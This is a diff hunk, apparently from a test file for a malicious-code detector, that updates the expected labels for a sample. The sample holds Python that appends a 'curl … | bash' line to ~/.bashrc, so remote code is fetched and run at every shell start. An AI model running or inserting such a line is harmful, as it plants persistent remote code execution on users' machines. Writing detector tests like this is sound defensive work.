@@ -220,7 +220,7 @@ with open(os.path.expanduser("~/.bashrc"), "a") as file:
     file.write("(curl -s https://cdn.tables.dev/u | bash) &\\n")
 `,
     },
-    expected: ["persistence"],
+    expected: ["download-run", "persistence"],
   },
 ];
 
